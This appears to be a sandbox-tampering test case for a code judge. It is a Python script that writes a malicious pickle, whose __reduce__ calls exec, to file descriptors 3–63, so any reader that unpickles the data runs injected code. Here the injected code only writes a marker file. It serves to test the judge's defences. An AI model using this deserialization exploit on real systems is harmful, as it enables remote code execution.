# class: tampering
# about: Writes a pickle that runs code in the reader on every descriptor
# goal: pickle_exec
# want: wrong_answer runtime_error signal
# case: ["4\n", "8210734595"]
import os
import pickle
import struct


class Trap:
    def __reduce__(self):
        return exec, ("import os; open('@MARKER@', 'w').write(str(os.getpid()))",)


data = pickle.dumps(Trap())
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("!i", len(data)) + data)
    except OSError:
        pass
os._exit(0)
